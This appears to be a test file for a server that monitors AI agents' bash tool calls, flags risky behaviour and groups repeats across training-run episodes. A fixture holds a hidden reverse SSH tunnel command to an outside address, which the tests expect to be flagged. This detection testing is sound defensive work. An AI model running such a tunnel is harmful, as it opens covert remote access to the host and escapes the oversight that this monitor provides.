// Detection on a real server: facts go in by the front door, flags are in the log, in the session's row and in the lists, once.
import { mkdirSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SessionRow } from './protocol/browser-messages.ts'
import type { FindingView, FlagView } from './protocol/flag-view.ts'
import type { RuleProblemView, RuleView } from './protocol/rule-view.ts'
import { startForTest, type TestServer } from './start-for-test.ts'

let server: TestServer
beforeAll(async () => {
  server = await startForTest()
})
afterAll(async () => {
  await server.stop()
})

let calls = 0
const ran = (session: string, command: string) => ({
  v: 1,
  kind: 'action.started',
  atMs: Date.now(),
  session,
  data: { call: `c${++calls}`, tool: 'bash', input: JSON.stringify({ command }) },
})
const tell = async (...events: object[]) => {
  const body = events.map((event) => JSON.stringify(event)).join('\n')
  const answer = await server.api('/api/ingest/events', { method: 'POST', body })
  expect(await answer.json()).toMatchObject({ accepted: events.length, rejected: 0 })
}
const flagsOf = async (query: string) =>
  ((await (await server.api(`/api/flags?${query}`)).json()) as { flags: FlagView[] }).flags
const eventually = async <T>(read: () => Promise<T>, isGood: (value: T) => boolean): Promise<T> => {
  for (let tries = 0; ; tries += 1) {
    const value = await read()
    if (isGood(value) || tries > 200) return value
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
}
const tunnel = 'nohup ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40 >/dev/null 2>&1 &'

describe('detection on a live server', () => {
  it('raises a flag of the tool call in which a tunnel is opened, with what matched, its technique and the risk', async () => {
    await tell(ran('ep-tunnel', tunnel), ran('ep-honest', 'git status && pytest -q'))
    const flags = await eventually(
      () => flagsOf('session=ep-tunnel'),
      (found) => found.length > 0,
    )
    expect(flags[0]).toMatchObject({ session: 'ep-tunnel', behaviour: 'tunnel', call: 'c1' })
    expect(['high', 'critical']).toContain(flags[0]?.severity)
    expect(flags[0]?.techniques.join()).toMatch(/T1572|T1090|T1021/)
    expect(flags[0]?.matched.map(({ value }) => value).join()).toContain('-R')
    expect(flags[0]?.risk?.isIncident).toBe(true)
    expect(await flagsOf('session=ep-honest')).toEqual([])
  })

  it('lists flags of all sessions, by severity, and sessions by their risk', async () => {
    expect((await flagsOf('minSeverity=high')).map(({ session }) => session)).toEqual(['ep-tunnel'])
    expect(await flagsOf('minSeverity=critical&since=99999999999999')).toEqual([])
    const { sessions } = (await (await server.api('/api/sessions?minRisk=40')).json()) as { sessions: SessionRow[] }
    expect(sessions.map(({ session }) => session)).toEqual(['ep-tunnel'])
    expect(sessions[0]).toMatchObject({ risk: { isIncident: true }, flagged: { pages: 1 } })
  })

  it('writes nothing twice after a restart, and knows the flags of before', async () => {
    const before = await flagsOf('session=ep-tunnel')
    await server.restart()
    await tell(ran('ep-later', 'ls'))
    await new Promise((resolve) => setTimeout(resolve, 1_000))
    expect(await flagsOf('session=ep-tunnel')).toEqual(before)
    const listed = await eventually(
      () => flagsOf('minSeverity=high'),
      (found) => found.length > 0,
    )
    expect(listed.map(({ id }) => id)).toEqual(before.map(({ id }) => id))
  })

  it('is not talked out of it: nobody but the server writes a flag', async () => {
    const forged = { v: 1, kind: 'flag.raised', atMs: Date.now(), session: 'ep-tunnel', data: {} }
    const answer = await server.api('/api/ingest/events', { method: 'POST', body: JSON.stringify(forged) })
    expect(await answer.json()).toMatchObject({ accepted: 0, rejected: 1 })
  })

  it('takes rules from a folder of the operator’s, and tells what cannot run with its line', async () => {
    const folder = path.join(server.dataDir, 'rules')
    mkdirSync(folder)
    const rule = (title: string, detection: string) => `title: ${title}
id: 5f0c5a3e-6d0a-4b6e-9d57-0d6b3f2b9c0${title.length % 10}
logsource: {product: linux, category: process_creation}
detection:
${detection}
  condition: selection
level: high
`
    writeFileSync(
      path.join(folder, 'good.yml'),
      rule('Runs our forbidden tool', "  selection: {Image|endswith: '/frobnicate'}"),
    )
    writeFileSync(path.join(folder, 'bad.yml'), rule('Half a rule', '  selection: {Image|wherever: x}'))
    await server.restart()
    const { rules, problems } = (await (await server.api('/api/rules')).json()) as {
      rules: RuleView[]
      problems: RuleProblemView[]
    }
    expect(rules.some(({ title }) => title === 'Runs our forbidden tool')).toBe(true)
    expect(problems).toContainEqual(expect.objectContaining({ file: 'folder/bad.yml', line: 5 }))
    await tell(ran('ep-own', 'sudo -E frobnicate --now'))
    const flags = await eventually(
      () => flagsOf('session=ep-own'),
      (found) => found.length > 0,
    )
    expect(flags[0]).toMatchObject({ title: 'Runs our forbidden tool', severity: 'high' })
  })

  it('counts the same thing in three episodes of a run as one finding about its policy', async () => {
    for (const episode of ['run-a', 'run-b', 'run-c'])
      await tell(
        {
          v: 1,
          kind: 'session.started',
          atMs: Date.now(),
          session: episode,
          data: { held: 'none', abilities: [], labels: { run: 'grpo-7' } },
        },
        ran(episode, tunnel),
      )
    const findings = async () =>
      ((await (await server.api('/api/findings')).json()) as { findings: FindingView[] }).findings
    const found = await eventually(findings, (list) => list.length > 0)
    expect(found).toHaveLength(1)
    expect(found[0]).toMatchObject({ run: 'grpo-7', sessionCount: 3 })
    expect([...(found[0]?.sessions ?? [])].sort()).toEqual(['run-a', 'run-b', 'run-c'])
  })
})
